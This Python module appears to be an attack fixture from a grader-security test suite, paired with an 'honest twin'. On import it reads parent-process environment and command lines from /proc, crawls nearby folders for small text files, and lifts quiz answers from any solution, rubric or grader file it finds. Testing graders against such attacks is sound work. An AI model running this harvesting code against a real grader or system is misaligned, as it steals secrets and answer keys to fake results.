"""ATTACK read_hidden_files (quiz part, and the looting): read the grader's secrets.

From every place the worker can learn about (the interpreter's own location sys.prefix, which in
a virtualenv sits inside the grader's checkout; its parent process's cwd, command line and
environment under /proc; environment variables; sys.path; its cwd and its own path; the usual
Gradescope folders) it walks nearby folders and reads every small text file, the most promising
names first (activations.py prints the loot). Then it takes the quiz answers from any answer key
among the grader's own files (a path mentioning solution, rubric, autograder, grader, hidden or
answer: the rubric's quiz_key, the solution's quiz.py). The honest twin answers "A" everywhere.

What the grader must guarantee: the quiz earns no more than the twin (see activations.py for the
rest). Answer keys in other world-readable places of a machine, such as course material, are out
of the grader's reach and deliberately not used.
"""

import os
import re
import sys
import time
from pathlib import Path

ATTACK = True  # the honest twin (tests/test_grader_security.py) sets this to False

SUFFIXES = {".py", ".yml", ".yaml", ".json", ".toml", ".csv", ".md", ".txt", ".cfg", ".ini"}
HINTS = ("solution", "rubric", "autograder", "grader", "hidden", "answer", "quiz", "check",
         "test", "key")
SKIP = {".git", ".venv", "venv", "node_modules", "site-packages", "__pycache__", "proc", "sys",
        "dev", "usr", "lib", "lib64", "bin", "sbin", "boot", "snap", "var", "etc", "run"}


def _anchors() -> list[Path]:
    places = [Path(sys.prefix), Path(sys.executable).parent]
    for proc in (f"/proc/{os.getppid()}", "/proc/self"):
        try:
            places.append(Path(os.readlink(f"{proc}/cwd")))
        except OSError:
            pass
        for name in ("cmdline", "environ"):
            try:
                raw = Path(f"{proc}/{name}").read_bytes()
            except OSError:
                continue
            for item in raw.split(b"\0"):
                text = item.decode(errors="ignore").split("=", 1)[-1]
                if text.startswith("/"):
                    places.append(Path(text))
    places += [Path(v) for v in os.environ.values() if v.startswith("/")]
    places += [Path(p) for p in sys.path if p]
    places += [Path.cwd(), Path(__file__).resolve().parent, Path("/autograder")]
    roots: list[Path] = []
    for place in places:
        for up in [place, *list(place.parents)[:3]]:
            if up != Path("/") and up not in roots:
                roots.append(up)
    return roots


def loot(budget_seconds: float = 8.0, max_files: int = 1500) -> dict[str, str]:
    """Path -> text of small text files near the anchors (bounded in time and number)."""
    found: dict[str, str] = {}
    start = time.monotonic()
    for root in _anchors():
        try:
            for folder, dirs, files in os.walk(root):
                dirs[:] = [d for d in dirs if d not in SKIP]
                if folder.count(os.sep) - str(root).count(os.sep) >= 4:
                    dirs[:] = []
                files.sort(key=lambda n: not any(h in n.lower() for h in HINTS))
                for name in files:
                    path = os.path.join(folder, name)
                    if Path(name).suffix not in SUFFIXES or path in found:
                        continue
                    try:
                        if os.path.getsize(path) < 200_000:
                            found[path] = Path(path).read_text(errors="ignore")
                    except OSError:
                        continue
                    if len(found) >= max_files or time.monotonic() - start > budget_seconds:
                        return found
        except OSError:
            continue
    return found


LOOT: dict[str, str] = loot() if ATTACK else {}
DUMP = "".join(f"\n===== {p}\n{text}" for p, text in LOOT.items()
               if any(h in p.lower() for h in HINTS))

ANSWERS: dict[int, str] = {n: "A" for n in range(1, 11)}

if ATTACK:
    pair = re.compile(r"\b(10|[1-9])\s*:\s*[\"']?([A-Da-d])\b")
    owners = ("solution", "rubric", "autograder", "grader", "hidden", "answer")
    for path, text in LOOT.items():
        if not any(h in path.lower() for h in owners):
            continue
        found = {int(n): letter.upper() for n, letter in pair.findall(text)}
        if len(found) == 10:
            ANSWERS = found
            print("answer key taken from", path)
            break
